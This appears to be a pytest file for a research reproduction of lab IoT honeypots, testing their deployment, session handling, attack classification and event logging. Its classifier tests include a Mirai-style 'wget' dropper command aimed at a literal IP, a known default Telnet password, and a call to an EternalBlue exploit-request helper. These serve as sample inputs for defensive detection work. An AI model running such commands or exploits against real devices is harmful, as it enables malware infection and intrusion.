"""Tests for the lab honeypots: deployment, session driving, classification,
event log."""

from repro.core.taxonomy import AttackType
from repro.honeypots.base import SessionTranscript
from repro.honeypots.classify import FLOOD_SESSION_THRESHOLD, classify_session
from repro.honeypots.deployment import HONEYPOT_NAMES
from repro.honeypots.events import AttackEvent, EventStore
from repro.net.ipv4 import ip_to_int
from repro.protocols.base import ProtocolId
from repro.protocols.mqtt import encode_connect, encode_publish, encode_subscribe
from repro.protocols.smb import eternal_exploit_request, negotiate_request
from repro.protocols.upnp import msearch_request

SRC = ip_to_int("77.88.99.1")


def _tcp_session(server, payloads):
    """Drive one TCP session straight against a server, as the attack
    month's tasks do: the accept banner, then one exchange per payload
    until the server closes."""
    session = server.open_session(peer=SRC)
    banner = server.accept(session)
    exchanges = []
    for payload in payloads:
        reply = server.handle(payload, session)
        exchanges.append((payload, reply.data))
        if reply.close:
            break
    return banner, exchanges


class TestDeploymentShape:
    def test_six_honeypots(self, deployment):
        assert deployment.names() == HONEYPOT_NAMES

    def test_protocols_per_table7(self, deployment):
        expected = {
            "HosTaGe": {ProtocolId.TELNET, ProtocolId.MQTT, ProtocolId.AMQP,
                        ProtocolId.COAP, ProtocolId.SSH, ProtocolId.HTTP,
                        ProtocolId.SMB},
            "U-Pot": {ProtocolId.UPNP},
            "Conpot": {ProtocolId.SSH, ProtocolId.TELNET, ProtocolId.S7,
                       ProtocolId.MODBUS, ProtocolId.HTTP},
            "ThingPot": {ProtocolId.XMPP},
            "Cowrie": {ProtocolId.SSH, ProtocolId.TELNET},
            "Dionaea": {ProtocolId.HTTP, ProtocolId.MQTT, ProtocolId.FTP,
                        ProtocolId.SMB},
        }
        for name, protocols in expected.items():
            honeypot = deployment.get(name)
            assert {
                server.protocol for server in honeypot.services.values()
            } == protocols

    def test_emulating_index(self, deployment):
        names = {h.name for h in deployment.emulating(ProtocolId.TELNET)}
        assert names == {"HosTaGe", "Conpot", "Cowrie"}

    def test_unique_addresses(self, deployment):
        addresses = [h.address for h in deployment.honeypots]
        assert len(set(addresses)) == len(addresses)

    def test_cowrie_telnet_banner_is_fingerprintable(self, deployment):
        """The lab Cowrie carries the same frozen banner Table 6 matches."""
        cowrie = deployment.get("Cowrie")
        assert cowrie.services[23].banner() == b"\xff\xfd\x1flogin: "


class TestSessionDriving:
    def test_tcp_session_records_banner_and_exchanges(self, deployment):
        server = deployment.get("Cowrie").services[23]
        banner, exchanges = _tcp_session(server, [b"root", b"xc3511"])
        assert banner == b"\xff\xfd\x1flogin: "
        assert len(exchanges) == 2

    def test_udp_session(self, deployment):
        honeypot = deployment.get("U-Pot")
        server = honeypot.services[honeypot.ports_for(ProtocolId.UPNP)[0]]
        replies = [
            server.handle(payload, server.open_session(peer=SRC)).data
            for payload in (
                msearch_request(), b"GET /rootDesc.xml HTTP/1.1\r\n\r\n"
            )
        ]
        assert b"LOCATION" in replies[0]
        assert b"Belkin" in replies[1]

    def test_mqtt_poisoning_session_classifies(self, deployment):
        honeypot = deployment.get("HosTaGe")
        port = honeypot.ports_for(ProtocolId.MQTT)[0]
        banner, exchanges = _tcp_session(
            honeypot.services[port],
            [encode_connect("bot"),
             encode_publish("arduino/sensors/smoke", b"99")],
        )
        transcript = SessionTranscript(
            protocol=ProtocolId.MQTT, port=port, source=SRC,
            exchanges=exchanges, banner=banner,
        )
        assert classify_session(transcript)[0] == AttackType.DATA_POISONING


class TestClassification:
    def _transcript(self, protocol, exchanges, source=SRC):
        return SessionTranscript(
            protocol=protocol, port=0, source=source, exchanges=exchanges
        )

    def test_dropper_command_is_malware(self):
        transcript = self._transcript(
            ProtocolId.TELNET,
            [(b"root", b"Password: "),
             (b"wget http://1.2.3.4/mirai.arm7 -O /tmp/m", b"$ ")],
        )
        assert classify_session(transcript)[0] == AttackType.MALWARE_DROP

    def test_elf_upload_is_malware(self):
        transcript = self._transcript(
            ProtocolId.FTP, [(b"STOR x\n\x7fELF\x01", b"226")]
        )
        assert classify_session(transcript)[0] == AttackType.MALWARE_DROP

    def test_flood_threshold(self):
        exchanges = [(b"GET / HTTP/1.1\r\n\r\n", b"x")] * FLOOD_SESSION_THRESHOLD
        transcript = self._transcript(ProtocolId.HTTP, exchanges)
        assert classify_session(transcript)[0] == AttackType.DOS_FLOOD

    def test_udp_amplifying_flood_is_reflection(self):
        exchanges = [(b"q" * 10, b"R" * 100)] * 50
        transcript = self._transcript(ProtocolId.COAP, exchanges)
        assert classify_session(transcript)[0] == AttackType.REFLECTION

    def test_udp_non_amplifying_flood_is_dos(self):
        exchanges = [(b"q" * 100, b"")] * 50
        transcript = self._transcript(ProtocolId.UPNP, exchanges)
        assert classify_session(transcript)[0] == AttackType.DOS_FLOOD

    def test_few_attempts_brute_many_dictionary(self):
        few = self._transcript(
            ProtocolId.SSH, [(b"userauth a b", b"userauth-failure")] * 2
        )
        many = self._transcript(
            ProtocolId.SSH, [(b"userauth a b", b"userauth-failure")] * 8
        )
        assert classify_session(few)[0] == AttackType.BRUTE_FORCE
        assert classify_session(many)[0] == AttackType.DICTIONARY

    def test_smb_exploit(self):
        transcript = self._transcript(
            ProtocolId.SMB,
            [(negotiate_request(), b"ok"),
             (eternal_exploit_request("EternalBlue"), b"pwned")],
        )
        assert classify_session(transcript)[0] == AttackType.EXPLOIT

    def test_mqtt_subscribe_is_discovery(self):
        transcript = self._transcript(
            ProtocolId.MQTT,
            [(encode_connect("x"), b""), (encode_subscribe(1, ["#"]), b"")],
        )
        assert classify_session(transcript)[0] == AttackType.DISCOVERY

    def test_bare_connect_is_scanning(self):
        transcript = self._transcript(ProtocolId.TELNET, [])
        assert classify_session(transcript)[0] == AttackType.SCANNING


class TestEventLog:
    def _event(self, honeypot="Cowrie", protocol=ProtocolId.SSH, source=1,
               day=0, attack_type=AttackType.SCANNING, timestamp=None):
        return AttackEvent(
            honeypot=honeypot, protocol=protocol, source=source, day=day,
            timestamp=day * 86_400.0 if timestamp is None else timestamp,
            attack_type=attack_type,
        )

    def test_count_aggregations(self):
        log = EventStore([
            self._event(source=1), self._event(source=2),
            self._event(honeypot="HosTaGe", protocol=ProtocolId.MQTT,
                        source=1, day=2),
        ])
        assert log.count_by_honeypot_protocol()[("Cowrie", "ssh")] == 2
        assert log.count_by_day() == {0: 2, 2: 1}
        assert log.unique_sources() == {1, 2}
        assert log.unique_sources(honeypot="HosTaGe") == {1}

    def test_count_by_type_filterable(self):
        log = EventStore([
            self._event(attack_type=AttackType.BRUTE_FORCE),
            self._event(protocol=ProtocolId.TELNET,
                        attack_type=AttackType.SCANNING),
        ])
        assert log.count_by_type(ProtocolId.SSH) == {AttackType.BRUTE_FORCE: 1}

    def test_multistage_candidates_require_two_protocols(self):
        log = EventStore([
            self._event(source=5, protocol=ProtocolId.SSH, timestamp=10),
            self._event(source=5, protocol=ProtocolId.SMB, timestamp=20),
            self._event(source=6, protocol=ProtocolId.SSH),
        ])
        candidates = log.multistage_candidates()
        assert set(candidates) == {5}
        assert [e.timestamp for e in candidates[5]] == [10, 20]

    def test_malware_hashes_collected(self):
        event = self._event()._replace(malware_hash="ab" * 32)
        log = EventStore([event, self._event()])
        assert log.malware_hashes() == {"ab" * 32}
